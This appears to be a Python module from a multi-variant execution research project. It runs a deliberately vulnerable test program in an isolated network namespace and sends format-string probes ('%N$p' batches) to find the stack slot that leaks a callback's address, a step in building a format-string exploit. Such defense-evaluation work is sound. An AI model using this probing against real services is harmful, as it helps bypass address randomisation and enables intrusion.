"""The attacker's homework: studying the target variant's build natively.

A format-string exploit needs to know which argument slot holds a code
pointer in the build it attacks. Attackers find that out on a copy of the
binary; so does :func:`leak_slot`: it runs the build natively, inside one
host of the run's emulated network (so the vulnerable program listens on
nothing real), asks it over that host's loopback for ``%1$p|%2$p|...`` and
picks the slot that holds the address of the program's callback
(:data:`CALLBACK`, which ``greet`` keeps in a local), computed from the
build's symbols and its load address in ``/proc/PID/maps``. That slot is a
property of the build (its code and frame layout), not of one run, so it
holds in the attacked variant under MVX; it is cached beside the build.

Why not the first slot that merely points into the image: the stack below
``greet``'s frame also holds leftovers of earlier calls (return addresses of
whatever ran there before), and which leftovers sit where depends on the
requests served so far. Such a slot can print a code pointer during the
study and ``(nil)`` in the attack (seen on this project's CI machine).
"""

from __future__ import annotations

import os
import socket
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

from realmode.net import netns
from realmode.net.children import die_with_parent
from realmode.vuln.exploits import absolute_address, image_range, request_path

if TYPE_CHECKING:
    from realmode.net.network import EmulatedNetwork

#: The function whose address ``greet`` keeps on its stack (format_string.c).
CALLBACK = "finish"
#: Slots asked per request, and the last slot looked at.
_BATCH = 40
_MAX_SLOT = 400


#: The port the studied program listens on (inside its host: nothing else there).
_PORT = 8099


def _get(port: int, path: bytes, timeout: float = 5.0) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(b"GET " + path + b" HTTP/1.0\r\n\r\n")
        answer = b""
        while chunk := sock.recv(65536):
            answer += chunk
    return answer


def leak_slot(binary: str, net: EmulatedNetwork | None, host: str) -> int:
    """The ``%N$p`` slot that prints the address of :data:`CALLBACK` in
    ``binary``, found by running it on ``host`` of the started network ``net``
    -- or, without one (the variants are machines: nothing is emulated), in a
    network namespace of its own with only its loopback up."""
    cache = Path(binary + ".callback-slot")
    if cache.is_file() and cache.stat().st_mtime >= Path(binary).stat().st_mtime:
        return int(cache.read_text())
    batches = _MAX_SLOT // _BATCH
    argv = [binary, str(_PORT), str(batches + 1), "-"]
    if net is None:
        server = subprocess.Popen(
            ["unshare", "--net", "sh", "-c", 'ip link set lo up && exec "$@"', "sh", *argv],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            preexec_fn=die_with_parent,
        )
        namespace = _own_namespace(server, binary)
    else:
        server = net.popen(host, argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        namespace = net.node_pid(host)
    try:
        with netns.inside(namespace):
            deadline = time.monotonic() + 5.0
            while True:  # the first connection only checks that it listens
                try:
                    socket.create_connection(("127.0.0.1", _PORT), timeout=1.0).close()
                    break
                except ConnectionRefusedError:
                    if time.monotonic() > deadline or server.poll() is not None:
                        raise RuntimeError(f"{binary} did not start listening for the study") from None
                    time.sleep(0.01)
            wanted = absolute_address(binary, CALLBACK, image_range(server.pid, binary)[0])
            for first in range(1, _MAX_SLOT, _BATCH):
                probe = "|".join(f"%{n}$p" for n in range(first, first + _BATCH)).encode()
                body = _get(_PORT, request_path(probe)).partition(b"\r\n\r\n")[2].removeprefix(b"hello ")
                for offset, text in enumerate(body.split(b"|")):
                    try:
                        value = int(text, 16)
                    except ValueError:
                        continue
                    if value == wanted:
                        slot = first + offset
                        cache.write_text(str(slot))
                        return slot
    finally:
        server.kill()
        server.wait()
    raise LookupError(f"{binary}: no argument slot up to {_MAX_SLOT} holds the address of {CALLBACK}")


def _own_namespace(process: subprocess.Popen[bytes], binary: str) -> int:
    """``process``'s pid, once it runs ``binary`` -- and so is in a network
    namespace of its own with its loopback up (``unshare --net``, then ``ip``,
    then exec): entering it earlier would ask this machine's own loopback, or
    one that is still down."""
    deadline = time.monotonic() + 5.0
    wanted = os.path.realpath(binary)
    while True:
        try:
            if os.readlink(f"/proc/{process.pid}/exe") == wanted and netns.inode(process.pid) != netns.inode():
                return process.pid
        except OSError:
            pass
        if time.monotonic() > deadline or process.poll() is not None:
            process.kill()
            process.wait()
            raise RuntimeError(f"{binary} did not start in a network namespace of its own for the study")
        time.sleep(0.005)
